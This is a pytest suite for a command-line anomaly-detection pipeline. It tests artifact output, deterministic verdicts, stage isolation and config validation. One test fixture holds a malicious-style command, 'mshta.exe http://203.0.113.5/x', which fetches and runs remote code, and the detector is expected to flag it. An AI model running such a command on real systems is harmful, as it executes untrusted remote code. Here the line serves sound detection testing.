import json
import shutil

import pytest

from scade import pipeline
from scade.errors import CalibrationError, ConfigError, DataError
from scade.pipeline import RunConfig, run_detect
from scade.synth import read_jsonl

from conftest import record, write_lines


def cfg_for(events, out, **kw):
    kw.setdefault("figures", False)
    return RunConfig(input=str(events), output_dir=str(out), **kw)


@pytest.fixture(scope="module")
def full_run(small_log, tmp_path_factory):
    events, truth = small_log
    out = tmp_path_factory.mktemp("full")
    summary = run_detect(cfg_for(events, out, truth=str(truth), figures=True))
    return out, summary


def test_artifacts_written(full_run):
    out, summary = full_run
    for name in ("events.jsonl", "payloads.jsonl", "ingest.json", "scores.jsonl", "thresholds.json",
                 "severities.jsonl", "score_store.jsonl", "stats.csv", "local.jsonl", "local.json",
                 "verdicts.jsonl", "summary.json", "metrics.json", "models/corpus_unigram.json",
                 "models/corpus_bigram.json", "figures/score_distributions.png", "figures/verdict_counts.png",
                 "figures/local_scores.png"):
        assert (out / name).is_file(), name
    assert summary["payloads"] == sum(summary["classes"].values())
    assert summary["metrics"]["tp"] + summary["metrics"]["fn"] == 2


def test_verdicts_cover_only_the_scoring_window(full_run):
    out, summary = full_run
    days = {r["day"] for r in read_jsonl(out / "severities.jsonl")}
    assert days == {summary["run_date"], "2026-03-07"}
    assert len(read_jsonl(out / "verdicts.jsonl")) == len(read_jsonl(out / "severities.jsonl"))


def test_stats_rows_are_five_per_flagged(full_run):
    out, summary = full_run
    lines = (out / "stats.csv").read_text().splitlines()
    assert len(lines) - 1 == 5 * summary["flagged"]


def test_stage_isolation(full_run, small_log, tmp_path):
    out, _ = full_run
    events, truth = small_log
    # each stage run with a fresh config object, as separate CLI calls would
    for name in pipeline.STAGES:
        pipeline.STAGES[name](cfg_for(events, tmp_path, truth=str(truth)))
    assert (tmp_path / "verdicts.jsonl").read_bytes() == (out / "verdicts.jsonl").read_bytes()
    # re-running later stages from persisted artifacts reproduces them
    before = (tmp_path / "local.jsonl").read_bytes()
    pipeline.run_localize(cfg_for(events, tmp_path))
    pipeline.run_report(cfg_for(events, tmp_path, truth=str(truth)))
    assert (tmp_path / "local.jsonl").read_bytes() == before
    assert (tmp_path / "verdicts.jsonl").read_bytes() == (out / "verdicts.jsonl").read_bytes()


def test_detect_is_deterministic(full_run, small_log, tmp_path):
    out, _ = full_run
    events, truth = small_log
    run_detect(cfg_for(events, tmp_path, truth=str(truth), threads=3))
    assert (tmp_path / "verdicts.jsonl").read_bytes() == (out / "verdicts.jsonl").read_bytes()


def test_golden_verdicts(full_run):
    """Compact golden record, frozen from the first verified run of the small fixture."""
    out, _ = full_run
    verdicts = read_jsonl(out / "verdicts.jsonl")
    golden = json.loads((pytest.golden_dir / "small_verdicts.json").read_text())
    counts = {}
    for v in verdicts:
        counts[v["classification"]] = counts.get(v["classification"], 0) + 1
    assert counts == golden["classes"]
    alerts = sorted(v["event_ref"] for v in verdicts if v["classification"] == "TruePositive")
    assert alerts == golden["alerts"]


def test_missing_artifact(tmp_path, small_log):
    with pytest.raises(DataError):
        pipeline.run_score(cfg_for(small_log[0], tmp_path))


def test_score_store_carries_history(full_run, small_log, tmp_path):
    out, _ = full_run
    run_detect(cfg_for(small_log[0], tmp_path, score_store=str(out / "score_store.jsonl")))
    # same days again: the store deduplicates, so thresholds are unchanged
    a = json.loads((out / "thresholds.json").read_text())
    b = json.loads((tmp_path / "thresholds.json").read_text())
    assert a["models"] == b["models"]


def test_single_payload_window_is_calibration_error(tmp_path):
    path = write_lines(tmp_path / "one.jsonl", [record(record_id="only")])
    with pytest.raises(CalibrationError) as exc:
        run_detect(cfg_for(path, tmp_path / "out"))
    assert exc.value.stage == "threshold"


def test_short_history_abstains(tmp_path):
    recs = [record(record_id=f"r{i}", command_line=f"tool.exe /{i % 5}") for i in range(30)]
    recs.append(record(record_id="odd", command_line="mshta.exe http://203.0.113.5/x"))
    path = write_lines(tmp_path / "e.jsonl", recs)
    summary = run_detect(cfg_for(path, tmp_path / "out"))
    assert summary["local"]["abstained"]
    verdicts = read_jsonl(tmp_path / "out" / "verdicts.jsonl")
    flagged = [v for v in verdicts if v["classification"] != "Legitimate"]
    assert flagged and all(v["classification"] == "TruePositive" and v["confidence"] == "low" for v in flagged)


def test_duplicate_record_ids_rejected(tmp_path):
    path = write_lines(tmp_path / "e.jsonl", [record(record_id="x"), record(record_id="x")])
    with pytest.raises(DataError):
        pipeline.run_ingest(cfg_for(path, tmp_path / "out"))


@pytest.mark.parametrize(
    "kw",
    [
        {"k": -1.0},
        {"b": 2.0},
        {"window_days": 0},
        {"contamination": 0.7},
        {"gram_modes": ("trigram",)},
        {"attribute_order": ("nope",)},
        {"local_training": "everything"},
        {"feature_transform": "sqrt"},
        {"run_date": "yesterday"},
        {"input_format": "xml"},
        {"truth": "/does/not/exist"},
    ],
)
def test_config_validation(kw, small_log, tmp_path):
    with pytest.raises(ConfigError):
        cfg_for(small_log[0], tmp_path, **kw).validate()


def test_missing_input_is_config_error(tmp_path):
    with pytest.raises(ConfigError):
        RunConfig(input=str(tmp_path / "absent.jsonl")).validate()
